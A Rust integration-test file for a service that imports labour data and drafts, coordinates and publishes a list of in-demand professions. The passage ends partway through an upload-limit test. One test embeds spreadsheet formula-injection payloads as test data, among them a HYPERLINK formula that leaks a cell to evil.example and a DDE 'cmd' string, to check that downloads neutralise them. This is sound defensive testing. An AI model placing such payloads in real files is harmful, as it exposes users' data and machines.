//! The list of professions in demand over HTTP: importing the three data sources, computing
//! drafts, coordinating them with the coordinating organisations (opinions, proposals,
//! revisions), approval and publication; who may see what; which version is in force on a
//! date; and an audit record for every change of state.

use crate::common;

use ashyq_core::Role;
use ashyq_store::{Actor, audit, lists, tokens, users};
use axum::body::Body;
use axum::http::Request;
use common::labour::{self, NOT_ON_LIST, OCCUPATIONS};
use common::{Harness, PASSWORD, Reply};
use serde_json::{Value, json};

/// Calls the app: `token` as a bearer token (none: the public), `body` as (content type, body).
async fn call(
    h: &Harness,
    token: Option<&str>,
    method: &str,
    uri: &str,
    body: Option<(&str, String)>,
) -> Reply {
    let mut req = Request::builder().method(method).uri(uri);
    if let Some(t) = token {
        req = req.header("authorization", format!("Bearer {t}"));
    }
    let body = match body {
        Some((ct, text)) => {
            req = req.header("content-type", ct);
            Body::from(text)
        }
        None => Body::empty(),
    };
    h.send(req.body(body).unwrap()).await
}

async fn get(h: &Harness, token: Option<&str>, uri: &str) -> Reply {
    call(h, token, "GET", uri, None).await
}

async fn post(h: &Harness, token: &str, uri: &str, body: Value) -> Reply {
    call(h, Some(token), "POST", uri, Some(("application/json", body.to_string()))).await
}

async fn upload(h: &Harness, token: &str, source: &str, query: &str, csv: String) -> Reply {
    call(h, Some(token), "POST", &format!("/api/v1/imports/{source}{query}"), Some(("text/csv", csv))).await
}

/// Asserts the status (showing the body when it differs); gives the JSON body.
fn expect(reply: &Reply, status: u16) -> Value {
    assert_eq!(reply.status, status, "{}", reply.body);
    reply.json()
}

/// The fields a problem names in `errors`.
fn fields(problem: &Value) -> Vec<String> {
    problem["errors"]
        .as_array()
        .map(|e| e.iter().filter_map(|f| f["field"].as_str().map(str::to_string)).collect())
        .unwrap_or_default()
}

/// Imports the three sources over HTTP as the analyst.
async fn import_all(h: &Harness, analyst: &str) {
    for (source, csv) in [
        ("forecast", labour::forecast_csv(&OCCUPATIONS)),
        ("vacancies", labour::vacancies_csv(&OCCUPATIONS)),
        ("work-permits", labour::permits_csv(&OCCUPATIONS)),
    ] {
        expect(&upload(h, analyst, source, "", csv).await, 201);
    }
}

/// A new draft of 2025 over HTTP (beside any other: forced); gives its id.
async fn draft(h: &Harness, analyst: &str) -> i64 {
    let list = expect(&post(h, analyst, "/api/v1/lists", json!({"period": 2025, "force": true})).await, 201);
    assert_eq!((list["status"].as_str(), list["revision"].as_i64()), (Some("draft"), Some(1)), "{list}");
    list["id"].as_i64().unwrap()
}

/// A list's entry for an occupation, from GET /api/v1/lists/{id}.
fn entry<'a>(list: &'a Value, occupation: &str) -> &'a Value {
    list["entries"]
        .as_array()
        .and_then(|e| e.iter().find(|e| e["occupation"] == occupation))
        .unwrap_or_else(|| panic!("{occupation} is not an entry of {list}"))
}

/// A coordinator account (no region), speaking for `body` when given; gives its bearer token.
async fn coordinator(h: &Harness, name: &str, body: Option<&str>) -> String {
    let new = users::NewUser {
        username: name.into(),
        display_name: name.into(),
        role: Role::Coordinator,
        region: None,
        password: PASSWORD.into(),
    };
    let user = users::create(&h.db, &Actor::cli(), new).await.unwrap();
    if let Some(b) = body {
        lists::assign_member(&h.db, &Actor::cli(), &user, b).await.unwrap();
    }
    tokens::create(&h.db, &Actor::cli(), &user, "test", None).await.unwrap().0
}

/// How many imports were recorded.
async fn imports_recorded(h: &Harness, analyst: &str) -> usize {
    expect(&get(h, Some(analyst), "/api/v1/imports").await, 200).as_array().unwrap().len()
}

/// The national forecast need of an occupation in 2025, as stored.
async fn forecast_need(h: &Harness, occupation: &str) -> u64 {
    let ind = ashyq_store::labour::read::indicators(&h.db, 2025, 30).await.unwrap();
    ind.of(&ashyq_core::occupation::OccupationCode::parse(occupation).unwrap()).forecast_need
}

#[tokio::test]
async fn importing_the_three_sources() {
    let h = Harness::new().await;
    let analyst = h.bearer(Role::Analyst).await;

    for (source, csv, rows) in [
        ("forecast", labour::forecast_csv(&OCCUPATIONS), 9),
        ("vacancies", labour::vacancies_csv(&OCCUPATIONS), 9),
        ("work-permits", labour::permits_csv(&OCCUPATIONS), 6),
    ] {
        let r = expect(&upload(&h, &analyst, source, "?file_name=data.csv", csv.clone()).await, 201);
        assert_eq!(r["source"], source);
        assert_eq!(r["file_name"], "data.csv");
        assert!(r["import_id"].is_i64(), "{r}");
        assert_eq!(
            [&r["rows_read"], &r["inserted"], &r["updated"], &r["unchanged"], &r["rejected"]],
            [rows, rows, 0, 0, 0],
            "{source}: {r}"
        );
        // The same file again changes nothing.
        let again = expect(&upload(&h, &analyst, source, "", csv).await, 201);
        assert_eq!(
            [
                &again["rows_read"],
                &again["inserted"],
                &again["updated"],
                &again["unchanged"],
                &again["rejected"]
            ],
            [rows, 0, 0, rows, 0],
            "{source} again: {again}"
        );
    }
    let recorded = expect(&get(&h, Some(&analyst), "/api/v1/imports").await, 200);
    assert_eq!(recorded.as_array().unwrap().len(), 6);
    assert_eq!(recorded[0]["username"], "test-analyst");
    assert_eq!(forecast_need(&h, "2512").await, 60);

    // One bad row (line 3): nothing is written, and the problem names file, row and column.
    let bad = labour::bad_forecast_csv();
    let reply = upload(&h, &analyst, "forecast", "?file_name=bad.csv", bad.clone()).await;
    let p = reply.problem(422);
    assert_eq!(p["code"], "invalid_rows");
    let named = fields(&p);
    assert!(named.contains(&"bad.csv:3:occupation".to_string()), "{p}");
    assert!(named.contains(&"bad.csv:4:region".to_string()), "{p}");
    assert_eq!(imports_recorded(&h, &analyst).await, 6, "a refused import is not recorded");
    assert_eq!(forecast_need(&h, NOT_ON_LIST).await, 0, "the good row of a refused file is not written");

    // With skip_invalid the good rows are written and the bad ones counted.
    let r = expect(&upload(&h, &analyst, "forecast", "?skip_invalid=true&file_name=bad.csv", bad).await, 201);
    assert_eq!([&r["rows_read"], &r["inserted"], &r["rejected"]], [3, 1, 2], "{r}");
    assert_eq!(r["errors"].as_array().unwrap().len(), 2, "{r}");
    assert_eq!(imports_recorded(&h, &analyst).await, 7);
    assert_eq!(forecast_need(&h, NOT_ON_LIST).await, 5);

    // An unknown source, and an empty body.
    assert_eq!(
        upload(&h, &analyst, "salaries", "", labour::forecast_csv(&OCCUPATIONS)).await.problem(404)["code"],
        "not_found"
    );
    upload(&h, &analyst, "forecast", "", String::new()).await.problem(422);
}

#[tokio::test]
async fn drafts_are_computed_from_the_data_and_deterministic() {
    let h = Harness::new().await;
    let analyst = h.bearer(Role::Analyst).await;

    // No data yet: nothing to compute.
    let p = post(&h, &analyst, "/api/v1/lists", json!({"period": 2025})).await.problem(422);
    assert_eq!(fields(&p), ["period"], "{p}");
    import_all(&h, &analyst).await;

    let p = post(&h, &analyst, "/api/v1/lists", json!({"period": 1999})).await.problem(422);
    assert_eq!(fields(&p), ["period"], "{p}");
    let p = post(&h, &analyst, "/api/v1/lists", json!({"period": 2010})).await.problem(422);
    assert_eq!(fields(&p), ["period"], "a period with no data: {p}");

    let a = draft(&h, &analyst).await;
    let b = draft(&h, &analyst).await;
    assert_ne!(a, b);
    let la = expect(&get(&h, Some(&analyst), &format!("/api/v1/lists/{a}")).await, 200);
    let lb = expect(&get(&h, Some(&analyst), &format!("/api/v1/lists/{b}")).await, 200);
    assert_eq!(la["period"], 2025);
    assert_eq!(la["created_by"], "test-analyst");
    assert!(la["recipients"].as_array().unwrap().is_empty(), "a draft is sent to no one: {la}");

    // Every unit group of major group 2 is a candidate; the three with data are on the list.
    let entries = la["entries"].as_array().unwrap();
    assert!(entries.len() > 20, "{}", entries.len());
    assert!(entries.iter().all(|e| e["occupation"].as_str().unwrap().starts_with('2')));
    let ranks: Vec<i64> = entries.iter().map(|e| e["rank"].as_i64().unwrap()).collect();
    assert_eq!(ranks, (1..=entries.len() as i64).collect::<Vec<_>>());
    let mut included: Vec<&str> =
        entries.iter().filter(|e| e["included"] == true).map(|e| e["occupation"].as_str().unwrap()).collect();
    included.sort_unstable();
    assert_eq!(included, ["2145", "2211", "2512"]);
    assert_eq!(entry(&la, "2512")["basis"], "computed");
    assert_eq!(entry(&la, NOT_ON_LIST)["included"], false);

    // The same data gives the same list, entry by entry (rank, score, verdict and the figures).
    assert_eq!(la["entries"], lb["entries"]);
    assert_eq!(la["benchmarks"], lb["benchmarks"]);
}

#[tokio::test]
async fn coordination_from_draft_to_publication() {
    let h = Harness::new().await;
    let analyst = h.bearer(Role::Analyst).await;
    let akimat = h.bearer(Role::Coordinator).await; // test-coordinator, KZ-75: akimat-kz-75
    import_all(&h, &analyst).await;
    let reply = post(&h, &analyst, "/api/v1/lists", json!({"period": 2025})).await;
    let id = expect(&reply, 201)["id"].as_i64().unwrap();
    let list_uri = format!("/api/v1/lists/{id}");
    let step = |s: &str| format!("/api/v1/lists/{id}/{s}");
    let mut changes_of_state = vec![("list.draft", reply.header("x-request-id").to_string())];

    // A coordinator knows nothing of an unsent draft.
    let seen = expect(&get(&h, Some(&akimat), "/api/v1/lists").await, 200);
    assert!(seen.as_array().unwrap().is_empty(), "{seen}");
    get(&h, Some(&akimat), &list_uri).await.problem(404);
    post(&h, &akimat, &step("opinions"), json!({"verdict": "agree"})).await.problem(404);

    // Nothing is approved without coordination, nor published without approval.
    let order = json!({"order_no": "49", "order_date": "2026-01-10"});
    assert_eq!(post(&h, &analyst, &step("approve"), order.clone()).await.problem(409)["code"], "conflict");
    post(&h, &analyst, &step("publish"), json!({"effective_from": "2026-02-01"})).await.problem(409);

    let reply = post(&h, &analyst, &step("send"), json!({})).await;
    assert_eq!(expect(&reply, 200)["status"], "in_coordination");
    changes_of_state.push(("list.send", reply.header("x-request-id").to_string()));
    post(&h, &analyst, &step("send"), json!({})).await.problem(409);

    // Now the akimat's coordinator sees it, and only its own region's breakdown.
    let seen = expect(&get(&h, Some(&akimat), "/api/v1/lists").await, 200);
    assert_eq!(seen.as_array().unwrap().iter().map(|l| l["id"].as_i64().unwrap()).collect::<Vec<_>>(), [id]);
    let shown = expect(&get(&h, Some(&akimat), &list_uri).await, 200);
    let recipients = shown["recipients"].as_array().unwrap();
    for body in ["akimat-kz-75", "akimat-kz-71", "moh", "mshe", "atameken"] {
        assert!(recipients.iter().any(|r| r == body), "{body} not among {recipients:?}");
    }
    let own = expect(&get(&h, Some(&akimat), &step("regions/KZ-75")).await, 200);
    assert!(own.as_array().unwrap().iter().any(|r| r["key"] == "2512"), "{own}");
    assert_eq!(get(&h, Some(&akimat), &step("regions/KZ-71")).await.problem(403)["code"], "other_region");
    let other = expect(&get(&h, Some(&analyst), &step("regions/KZ-71")).await, 200);
    assert!(other.as_array().unwrap().iter().any(|r| r["key"] == "2512"), "{other}");
    get(&h, Some(&analyst), &step("regions/XX-1")).await.problem(404);

    // Opinions: remarks are required with an objection; proposals must fit the entries.
    let p = post(&h, &akimat, &step("opinions"), json!({"verdict": "object"})).await.problem(422);
    assert_eq!(fields(&p), ["remarks"], "{p}");
    let proposal = |occupation: &str, change: &str| {
        json!({"verdict": "object", "remarks": "see the proposals",
               "proposals": [{"occupation": occupation, "change": change, "justification": "regional need"}]})
    };
    for (occupation, change, field) in [
        ("7212", "add", "proposals[0].occupation"), // outside the universe
        ("2512", "add", "proposals[0].change"),     // already on the list
        (NOT_ON_LIST, "remove", "proposals[0].change"), // not on the list
        ("2512", "drop", "proposals[0].change"),
    ] {
        let p = post(&h, &akimat, &step("opinions"), proposal(occupation, change)).await.problem(422);
        assert_eq!(fields(&p), [field], "{occupation} {change}: {p}");
    }
    let objection = json!({
        "verdict": "object",
        "remarks": "2512 is met by local graduates; 2111 is short in the region",
        "proposals": [
            {"occupation": "2512", "change": "remove", "justification": "met by local graduates"},
            {"occupation": NOT_ON_LIST, "change": "add", "justification": "short in the region"},
        ],
    });
    let reply = post(&h, &akimat, &step("opinions"), objection).await;
    let opinion = expect(&reply, 201);
    assert_eq!((opinion["body"].as_str(), opinion["revision"].as_i64()), (Some("akimat-kz-75"), Some(1)));
    assert_eq!(opinion["username"], "test-coordinator");
    assert_eq!(opinion["proposals"].as_array().unwrap().len(), 2, "{opinion}");
    changes_of_state.push(("list.opinion", reply.header("x-request-id").to_string()));
    // One opinion per organisation and revision.
    let p = post(&h, &akimat, &step("opinions"), json!({"verdict": "agree"})).await.problem(409);
    assert_eq!(p["code"], "conflict");

    // A coordinator assigned to Atameken speaks for it; one with no organisation may not.
    let atameken = coordinator(&h, "atameken-coordinator", Some("atameken")).await;
    let reply = post(&h, &atameken, &step("opinions"), json!({"verdict": "agree"})).await;
    assert_eq!(expect(&reply, 201)["body"], "atameken");
    let nobody = coordinator(&h, "unassigned-coordinator", None).await;
    let p = post(&h, &nobody, &step("opinions"), json!({"verdict": "agree"})).await.problem(403);
    assert_eq!(p["code"], "no_organisation");
    get(&h, Some(&nobody), &list_uri).await.problem(403);
    let shown = expect(&get(&h, Some(&analyst), &list_uri).await, 200);
    let bodies: Vec<&str> =
        shown["opinions"].as_array().unwrap().iter().map(|o| o["body"].as_str().unwrap()).collect();
    assert_eq!(bodies, ["akimat-kz-75", "atameken"]);

    // Only analysts revise; a revision applies the changes with their justification.
    post(&h, &akimat, &step("revisions"), json!({"note": "x", "changes": []})).await.problem(403);
    post(&h, &analyst, &step("revisions"), json!({"note": " ", "changes": []})).await.problem(422);
    let revision = json!({
        "note": "the akimat of KZ-75's opinion",
        "changes": [{"occupation": "2512", "change": "remove", "justification": "met by local graduates"}],
    });
    let reply = post(&h, &analyst, &step("revisions"), revision).await;
    let revised = expect(&reply, 201);
    assert_eq!((revised["status"].as_str(), revised["revision"].as_i64()), (Some("draft"), Some(2)));
    changes_of_state.push(("list.revise", reply.header("x-request-id").to_string()));
    let now = expect(&get(&h, Some(&analyst), &list_uri).await, 200);
    assert_eq!(now["shown_revision"], 2);
    let e = entry(&now, "2512");
    assert_eq!((e["included"].as_bool(), e["basis"].as_str()), (Some(false), Some("removed")), "{e}");
    assert_eq!(e["justification"], "met by local graduates");
    assert_eq!(entry(&now, "2211")["basis"], "computed");
    // The history is kept.
    let first = expect(&get(&h, Some(&analyst), &format!("{list_uri}?revision=1")).await, 200);
    assert_eq!(first["shown_revision"], 1);
    let e = entry(&first, "2512");
    assert_eq!((e["included"].as_bool(), e["basis"].as_str()), (Some(true), Some("computed")), "{e}");
    assert!(e["justification"].is_null(), "{e}");
    get(&h, Some(&analyst), &format!("{list_uri}?revision=3")).await.problem(422);
    // The coordinator still sees the list it was sent, now revised — but only the revision it
    // was sent (1): revision 2 is in preparation and stays the analysts' until it is sent.
    let seen = expect(&get(&h, Some(&akimat), &list_uri).await, 200);
    assert_eq!((seen["revision"].as_i64(), seen["shown_revision"].as_i64()), (Some(2), Some(1)));
    let unsent = seen["entries"].as_array().unwrap().iter().find(|e| e["occupation"] == "2512").unwrap();
    assert_eq!(unsent["basis"], "computed", "the coordinator must not see revision 2's change");
    get(&h, Some(&akimat), &format!("{list_uri}?revision=2")).await.problem(404);
    // And only its own organisation's opinions (the analyst sees them all).
    let bodies: Vec<String> = seen["opinions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["body"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(bodies, ["akimat-kz-75"]);
    let all = expect(&get(&h, Some(&analyst), &list_uri).await, 200);
    assert!(all["opinions"].as_array().unwrap().len() > 1, "{}", all["opinions"]);

    // A coordinated draft is approved by order, then published from a date not before the order.
    let reply = post(&h, &analyst, &step("approve"), order.clone()).await;
    let approved = expect(&reply, 200);
    assert_eq!((approved["status"].as_str(), approved["order_no"].as_str()), (Some("approved"), Some("49")));
    assert_eq!(approved["order_date"], "2026-01-10");
    assert_eq!(approved["approved_by"], "test-analyst");
    changes_of_state.push(("list.approve", reply.header("x-request-id").to_string()));
    let p = post(&h, &analyst, &step("publish"), json!({"effective_from": "2026-01-09"})).await.problem(422);
    assert_eq!(fields(&p), ["effective_from"], "{p}");
    get(&h, None, &format!("/api/v1/published-lists/{id}")).await.problem(404);
    let reply = post(&h, &analyst, &step("publish"), json!({"effective_from": "2026-01-10"})).await;
    let published = expect(&reply, 200);
    assert_eq!(
        (published["status"].as_str(), published["effective_from"].as_str()),
        (Some("published"), Some("2026-01-10"))
    );
    assert!(published["published_at"].is_string(), "{published}");
    changes_of_state.push(("list.publish", reply.header("x-request-id").to_string()));

    // A published version never changes.
    for (s, body) in [
        ("send", json!({})),
        ("revisions", json!({"note": "late", "changes": []})),
        ("approve", order.clone()),
        ("publish", json!({"effective_from": "2026-03-01"})),
    ] {
        let p = post(&h, &analyst, &step(s), body).await.problem(409);
        assert_eq!(p["code"], "conflict", "{s}");
    }
    post(&h, &akimat, &step("opinions"), json!({"verdict": "agree"})).await.problem(409);
    let public = expect(&get(&h, None, &format!("/api/v1/published-lists/{id}")).await, 200);
    assert_eq!(public["revision"], 2);
    assert!(public["entries"].as_array().unwrap().iter().all(|e| e["occupation"] != "2512"), "{public}");

    // Every change of state left its audit record, made by the caller with the request's id.
    let records = audit::for_object(&h.db, "list", &id.to_string()).await.unwrap();
    let actions: Vec<&str> = records.iter().map(|r| r.action.as_str()).collect();
    assert_eq!(
        actions,
        [
            "list.draft",
            "list.send",
            "list.opinion",
            "list.opinion",
            "list.revise",
            "list.approve",
            "list.publish"
        ]
    );
    for (action, request_id) in changes_of_state {
        let r = records.iter().find(|r| r.action == action).unwrap();
        assert_eq!(r.request_id, request_id, "{action}");
        let by = if action == "list.opinion" { "test-coordinator" } else { "test-analyst" };
        assert_eq!(r.actor, by, "{action}");
    }
    let tail = audit::tail(&h.db, 100).await.unwrap();
    assert!(tail.iter().any(|r| r.action == "list.opinion" && r.actor == "atameken-coordinator"));
}

#[tokio::test]
async fn the_list_in_force_on_a_date() {
    let h = Harness::new().await;
    let analyst = h.bearer(Role::Analyst).await;
    import_all(&h, &analyst).await;
    let step = |id: i64, s: &str| format!("/api/v1/lists/{id}/{s}");

    // A: as computed, in force from 2026-01-01.
    let a = draft(&h, &analyst).await;
    expect(&post(&h, &analyst, &step(a, "send"), json!({})).await, 200);
    expect(
        &post(&h, &analyst, &step(a, "approve"), json!({"order_no": "A-1", "order_date": "2025-12-20"}))
            .await,
        200,
    );
    // B: the same data without 2145, in force from 2026-06-01.
    let b = draft(&h, &analyst).await;
    expect(&post(&h, &analyst, &step(b, "send"), json!({})).await, 200);
    let revision = json!({"note": "update", "changes": [{"occupation": "2145", "change": "remove", "justification": "filled"}]});
    expect(&post(&h, &analyst, &step(b, "revisions"), revision).await, 201);
    expect(
        &post(&h, &analyst, &step(b, "approve"), json!({"order_no": "B-1", "order_date": "2026-05-15"}))
            .await,
        200,
    );
    // An approved list is not published yet; nor is a draft.
    get(&h, None, &format!("/api/v1/published-lists/{a}")).await.problem(404);
    let c = draft(&h, &analyst).await;
    get(&h, None, &format!("/api/v1/published-lists/{c}")).await.problem(404);
    get(&h, None, "/api/v1/published-lists/999999").await.problem(404);
    get(&h, None, "/api/v1/published-lists/in-force?on=2026-01-01").await.problem(404);

    expect(&post(&h, &analyst, &step(a, "publish"), json!({"effective_from": "2026-01-01"})).await, 200);
    expect(&post(&h, &analyst, &step(b, "publish"), json!({"effective_from": "2026-06-01"})).await, 200);

    // Public, without logging in.
    let versions = expect(&get(&h, None, "/api/v1/published-lists").await, 200);
    let ids: Vec<i64> = versions.as_array().unwrap().iter().map(|v| v["id"].as_i64().unwrap()).collect();
    assert_eq!(ids, [b, a], "newest effective date first");
    get(&h, None, "/api/v1/published-lists/in-force?on=2025-12-31").await.problem(404);
    for (on, expected) in [("2026-01-01", a), ("2026-05-31", a), ("2026-06-01", b), ("2030-01-01", b)] {
        let v = expect(&get(&h, None, &format!("/api/v1/published-lists/in-force?on={on}")).await, 200);
        assert_eq!(v["id"], expected, "in force on {on}");
    }
    // Without a date: the one in force today (in Kazakhstan: Asia/Almaty in the tz database).
    let today = jiff::Timestamp::now().to_zoned(jiff::tz::get!("Asia/Almaty")).date();
    let reply = get(&h, None, "/api/v1/published-lists/in-force").await;
    if today >= jiff::civil::date(2026, 6, 1) {
        assert_eq!(expect(&reply, 200)["id"], b);
    } else if today >= jiff::civil::date(2026, 1, 1) {
        assert_eq!(expect(&reply, 200)["id"], a);
    } else {
        reply.problem(404);
    }

    for (on, on_list, list) in
        [("2025-12-31", false, None), ("2026-01-01", true, Some(a)), ("2026-06-01", false, Some(b))]
    {
        let v = expect(&get(&h, None, &format!("/api/v1/occupations/2145/on-list?on={on}")).await, 200);
        assert_eq!(v["on_list"], on_list, "2145 on {on}: {v}");
        assert_eq!(v["list_id"].as_i64(), list, "{on}: {v}");
    }
    let v = expect(&get(&h, None, "/api/v1/occupations/2145/on-list?on=2026-01-01").await, 200);
    assert_eq!(v["order_no"], "A-1");
    assert!(v["rank"].is_i64(), "{v}");
    let v = expect(&get(&h, None, "/api/v1/occupations/2512/on-list?on=2026-06-01").await, 200);
    assert_eq!((v["on_list"].as_bool(), v["effective_from"].as_str()), (Some(true), Some("2026-06-01")));
    get(&h, None, "/api/v1/occupations/25x2/on-list").await.problem(422);

    let d = expect(&get(&h, None, &format!("/api/v1/published-lists/diff?from={a}&to={b}")).await, 200);
    assert_eq!(d["removed"], json!(["2145"]), "{d}");
    assert_eq!(d["added"], json!([]), "{d}");
    assert_eq!(d["unchanged"].as_u64().unwrap() + d["moved"].as_array().unwrap().len() as u64, 2, "{d}");
    get(&h, None, &format!("/api/v1/published-lists/diff?from={a}&to={c}")).await.problem(404);

    // A version: the list (included only) and the ranking of valuable skills (every candidate).
    let vb = expect(&get(&h, None, &format!("/api/v1/published-lists/{b}")).await, 200);
    let on_b: Vec<&str> =
        vb["entries"].as_array().unwrap().iter().map(|e| e["occupation"].as_str().unwrap()).collect();
    assert!(!on_b.contains(&"2145") && on_b.contains(&"2512") && on_b.contains(&"2211"), "{on_b:?}");
    let ranked = vb["ranking"].as_array().unwrap();
    let r2145 = ranked.iter().find(|r| r["occupation"] == "2145").unwrap();
    assert_eq!(r2145["on_list"], false);
    let va = expect(&get(&h, None, &format!("/api/v1/published-lists/{a}")).await, 200);
    assert!(va["entries"].as_array().unwrap().iter().any(|e| e["occupation"] == "2145"));

    // An entry with the figures behind it, by region.
    let e = expect(&get(&h, None, &format!("/api/v1/published-lists/{a}/entries/2512")).await, 200);
    assert_eq!((e["list_id"].as_i64(), e["included"].as_bool()), (Some(a), Some(true)));
    let regions: Vec<&str> =
        e["regions"].as_array().unwrap().iter().map(|r| r["key"].as_str().unwrap()).collect();
    assert_eq!(regions, ["KZ-71", "KZ-75"]);
    let e = expect(&get(&h, None, &format!("/api/v1/published-lists/{b}/entries/2145")).await, 200);
    assert_eq!((e["included"].as_bool(), e["basis"].as_str()), (Some(false), Some("removed")));
    get(&h, None, &format!("/api/v1/published-lists/{a}/entries/7212")).await.problem(404);
    get(&h, None, &format!("/api/v1/published-lists/{c}/entries/2512")).await.problem(404);
}

#[tokio::test]
async fn downloads_never_hand_a_spreadsheet_a_formula() {
    use http_body_util::BodyExt;
    use tower::ServiceExt;
    let h = Harness::new().await;
    let analyst = h.bearer(Role::Analyst).await;
    import_all(&h, &analyst).await;
    let step = |id: i64, s: &str| format!("/api/v1/lists/{id}/{s}");
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"details")"#;
    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    let id = draft(&h, &analyst).await;
    expect(&post(&h, &analyst, &step(id, "send"), json!({})).await, 200);
    let revision = json!({"note": "update", "changes": [
        {"occupation": "2145", "change": "remove", "justification": hyperlink},
        {"occupation": NOT_ON_LIST, "change": "add", "justification": sum},
    ]});
    expect(&post(&h, &analyst, &step(id, "revisions"), revision).await, 201);
    expect(
        &post(&h, &analyst, &step(id, "approve"), json!({"order_no": "F-1", "order_date": "2026-01-05"}))
            .await,
        200,
    );
    expect(&post(&h, &analyst, &step(id, "publish"), json!({"effective_from": "2026-01-10"})).await, 200);

    // CSV: the formulas come back as text after an apostrophe; figures stay figures.
    let reply = get(&h, None, &format!("/lists/{id}/download/csv?headers=machine")).await;
    assert_eq!(reply.status, 200, "{}", reply.body);
    let mut reader = csv::Reader::from_reader(reply.body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (occupation, justification, score, rank) =
        (column("occupation"), column("justification"), column("score"), column("rank"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let of = |code: &str| rows.iter().find(|r| &r[occupation] == code).unwrap().clone();
    assert_eq!(&of("2145")[justification], format!("'{hyperlink}"));
    assert_eq!(&of(NOT_ON_LIST)[justification], format!("'{sum}"));
    for r in &rows {
        assert!(r[score].parse::<f64>().is_ok() && r[rank].parse::<u32>().is_ok(), "{r:?}");
        for cell in r.iter() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                    && (first != Some('-') || cell.parse::<f64>().is_ok()),
                "a cell that a spreadsheet would run: {cell:?}"
            );
        }
    }

    // XLSX: the same text, written as a string cell, never as a formula.
    let req = Request::get(format!("/lists/{id}/download/xlsx")).body(Body::empty()).unwrap();
    let res = ashyq_server::app(h.state.clone()).oneshot(req).await.unwrap();
    assert_eq!(res.status(), 200);
    let bytes = res.into_body().collect().await.unwrap().to_bytes().to_vec();
    let mut book: calamine::Xlsx<_> = calamine::Reader::new(std::io::Cursor::new(bytes.clone())).unwrap();
    let sheet = calamine::Reader::worksheet_range(&mut book, "list").unwrap();
    let texts: Vec<String> = sheet.rows().flat_map(|r| r.iter().map(|c| c.to_string())).collect();
    assert!(texts.iter().any(|t| t == hyperlink) && texts.iter().any(|t| t == sum), "{texts:?}");
    let formulas = calamine::Reader::worksheet_formula(&mut book, "list").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in the workbook");
}

/// A small workbook whose one shared string unpacks to `string_bytes` bytes.
fn workbook_with_a_long_string(string_bytes: usize) -> Vec<u8> {
    use std::io::Write;
    let ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let parts = [
        ("[Content_Types].xml", r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#.to_string()),
        ("_rels/.rels", format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#)),
        ("xl/workbook.xml", format!(r#"<?xml version="1.0"?><workbook xmlns="{ns}" xmlns:r="{rel}"><sheets><sheet name="data" sheetId="1" r:id="rId1"/></sheets></workbook>"#)),
        ("xl/_rels/workbook.xml.rels", format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#)),
        ("xl/worksheets/sheet1.xml", format!(r#"<?xml version="1.0"?><worksheet xmlns="{ns}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>"#)),
        ("xl/sharedStrings.xml", format!(r#"<?xml version="1.0"?><sst xmlns="{ns}" count="1" uniqueCount="1"><si><t>{}</t></si></sst>"#, "a".repeat(string_bytes))),
    ];
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, text) in parts {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// The analysis page's upload form, as the analyst in `lang`.
async fn upload_page(h: &Harness, lang: &str, source: &str, file: &[u8]) -> Reply {
    let (cookie, csrf) = h.session(Role::Analyst).await;
    let mut body = Vec::new();
    for (k, v) in [("csrf", csrf.as_str()), ("source", source)] {
        body.extend_from_slice(
            format!("--XB\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n").as_bytes(),
        );
    }
    body.extend_from_slice(
        b"--XB\r\nContent-Disposition: form-data; name=\"file\"; filename=\"book.xlsx\"\r\n\r\n",
    );
    body.extend_from_slice(file);
    body.extend_from_slice(b"\r\n--XB--\r\n");
    let req = Request::post("/analysis/imports")
        .header("cookie", format!("{cookie}; ashyq_lang={lang}"))
        .header("content-type", "multipart/form-data; boundary=XB")
        .body(Body::from(body))
        .unwrap();
    h.send(req).await
}

#[tokio::test]
async fn uploads_keep_their_limit_while_they_arrive_and_hostile_workbooks_are_refused() {
    let mut h = Harness::new().await;
    let analyst = h.bearer(Role::Analyst).await;
    let limit = 1024 * 1024;
    h.state.config =
        std::sync::Arc::new(ashyq_server::ServerConfig { import_limit_bytes: limit, ..Default::default() });
    let mut csv = labour::forecast_csv(&OCCUPATIONS);
    expect(&upload(&h, &analyst, "forecast", "", csv.clone()).await, 201);
    let line = csv.lines().nth(1).unwrap().to_string();
    while csv.len() <= limit {
        csv.push_str(&line);
        csv.push('\n');
    }
    // Over the limit, by its declared length or, sent in pieces without one, as it arrives.
    let p = upload(&h, &analyst, "forecast", "", csv.clone()).await.problem(413);
    assert_eq!(p["code"], "payload_too_large");
    let pieces: Vec<Result<axum::body::Bytes, std::io::Error>> =
        csv.as_bytes().chunks(4096).map(|c| Ok(axum::body::Bytes::copy_from_slice(c))).collect();
    let req = Request::post("/api/v1/imports/forecast")
        .header("authorization", format!("Bearer {analyst}"))
        .header("content-type", "text/csv")
        .body(Body::from_stream(futures_util::stream::iter(pieces)))
        .unwrap();
    assert!(req.headers().get("content-length").is_none());
    assert_eq!(h.send(req).await.problem(413)["code"], "payload_too_large");
    assert_eq!(imports_recorded(&h, &analyst).await, 1);
    // On the page: the same limit, said in words.
    let page = upload_page(&h, "en", "forecast", csv.as_bytes()).await;
    assert_eq!(page.status, 413, "{}", page.body);
